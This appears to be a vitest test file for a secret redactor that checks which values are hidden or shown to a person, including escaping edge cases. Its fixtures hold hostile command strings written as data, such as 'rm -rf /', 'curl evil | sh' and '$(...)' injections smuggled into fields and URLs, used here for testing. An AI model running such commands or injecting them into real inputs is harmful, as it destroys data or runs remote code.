import { describe, expect, test } from 'vitest'
import { createRedactor, redactedText } from './redact.ts'

const secret = 'hunter2-hunter2'

function shown(input: unknown) {
  const redactor = createRedactor()
  redactor.addSecret(secret)
  return redactor.forPerson(input)
}

describe('data that a person decides about', () => {
  test.each([
    `echo "token: '"; rm -rf / #`,
    'TOKEN={ ; rm -rf / ; curl evil',
    'authorization: basic x; rm -rf / && curl evil | sh',
    "ls --token '$(curl evil|sh)'",
    'MY_TOKEN="$(rm -rf /)" true',
    'cookie: a\nrm -rf /',
    '{"password": "; rm -rf /"}',
    'https://$(rm -rf /)@host/',
    'Bearer rm1234567890',
    'ls # [redacted]',
  ])('is shown even if it looks like a secret: %s', (text) => {
    expect(shown({ path: text })).toEqual({ value: { path: text }, hidden: [] })
  })

  test('is shown in lists and pairs that may hold a secret', () => {
    const given = { cmd: ['--token', '; rm -rf /'], env: [{ name: 'API_KEY', value: 'rm -rf /' }] }
    expect(shown(given)).toEqual({ value: given, hidden: [] })
  })

  test('is shown if it is keys to type', () => {
    expect(shown({ keys: 'r m Enter' })).toEqual({ value: { keys: 'r m Enter' }, hidden: [] })
  })

  test('hides a value under a secret name, and says where and how much', () => {
    expect(shown({ user: 'ann', password: 'a b c', deep: [{ 'x/token': { a: 1 } }], max_tokens: 7 })).toEqual({
      value: { user: 'ann', password: redactedText, deep: [{ 'x/token': redactedText }], max_tokens: 7 },
      hidden: [
        { at: '/password', characters: 5 },
        { at: '/deep/0/x~1token', characters: 7 },
      ],
    })
  })

  test('hides known secrets and tokens of the hub, and nothing around them', () => {
    const encoded = encodeURIComponent('sb_human_abc').replaceAll('_', '%5F')
    expect(shown({ run: `curl -u ${secret} && rm`, token_of: '(sb_agent_x)', url: `/?a=${encoded}&b` })).toEqual({
      value: { run: `curl -u ${redactedText} && rm`, token_of: `(${redactedText})`, url: `/?a=${redactedText}&b` },
      hidden: [
        { at: '/run', characters: secret.length },
        { at: '/token_of', characters: 10 },
        { at: '/url', characters: encoded.length },
      ],
    })
  })

  test('hides a known secret in names and pointers too, and loses no field', () => {
    const { value, hidden } = shown({ sb_agent_a: 'rm -rf /', sb_agent_b: 'ls', [`x-${secret}`]: 1 })
    expect(value).toEqual({ [redactedText]: 'rm -rf /', [`${redactedText} (2)`]: 'ls', [`x-${redactedText}`]: 1 })
    expect(hidden).toEqual([
      { at: `/${redactedText}`, characters: 10 },
      { at: `/${redactedText} (2)`, characters: 10 },
      { at: `/x-${redactedText}`, characters: secret.length },
    ])
  })

  test('summarizes a thousand hidden parts', () => {
    const many = Object.fromEntries(
      Array.from({ length: 1_000 }, (_, index) => [`${'n'.repeat(10_000)}${index}_token`, 'abc']),
    )
    const { hidden } = shown(many)
    expect(hidden).toHaveLength(51)
    expect(hidden.at(-1)).toEqual({ at: '', characters: 950 * 3 })
    expect(JSON.stringify(hidden).length).toBeLessThan(20_000)
  })

  test('keeps a field called __proto__', () => {
    const given: unknown = JSON.parse('{"__proto__":{"a":1},"b":2}')
    expect(JSON.stringify(shown(given).value)).toBe('{"__proto__":{"a":1},"b":2}')
  })
})
